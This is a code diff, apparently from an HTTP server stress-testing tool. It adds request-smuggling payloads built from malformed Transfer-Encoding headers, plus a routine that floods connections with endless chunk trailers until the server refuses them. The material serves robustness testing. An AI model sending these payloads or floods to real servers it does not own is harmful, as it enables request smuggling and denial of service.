@@ -157,6 +157,8 @@ _SMUGGLED = (
     (_CHUNKED, "0\n\n"),
     (_CHUNKED, "1 \r\na\r\n0\r\n\r\n"),
     ("Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n"),
+    ("Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n"),
+    ("Transfer-Encoding: identity, chunked\r\n", "0\r\n\r\n"),
     ("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n"),
     ("Transfer-Encoding:\r\n chunked\r\n", "0\r\n\r\n"),
     ("X: a\r\n Content-Length: 0\r\n", ""),
@@ -189,15 +191,25 @@ async def smuggled(attack: Attack, *, per_s: float) -> None:
 
 async def tiny_chunks(attack: Attack, *, connections: int, extension: str = "") -> None:
     """Bodies in chunks of a byte, until the server refuses them."""
+    await _until_refused(attack, connections, b"", f"1{extension}\r\n \r\n".encode() * 8_000)
+
+
+async def trailers(attack: Attack, *, connections: int) -> None:
+    """Whole bodies with trailers that don't end, until the server refuses them."""
+    body = http1.chat(1)
+    begun = b"%x\r\n%b\r\n0\r\n" % (len(body), body)
+    await _until_refused(attack, connections, begun, b"X:a\r\n" * 12_000)
+
+
+async def _until_refused(attack: Attack, connections: int, begun: bytes, more: bytes) -> None:
     head = request(http1.CHAT, key=attack.order.key, length=-1, more=_CHUNKED)
-    chunks = f"1{extension}\r\n \r\n".encode() * 8_000
 
     async def send(_: int) -> None:
         async with opened(attack) as http:
             http.call()
-            await http.send(head)
+            await http.send(head + begun)
             while not attack.order.alone:
-                await http.send(chunks)
+                await http.send(more)
             await http.status()
 
     await attack.times(connections, send)
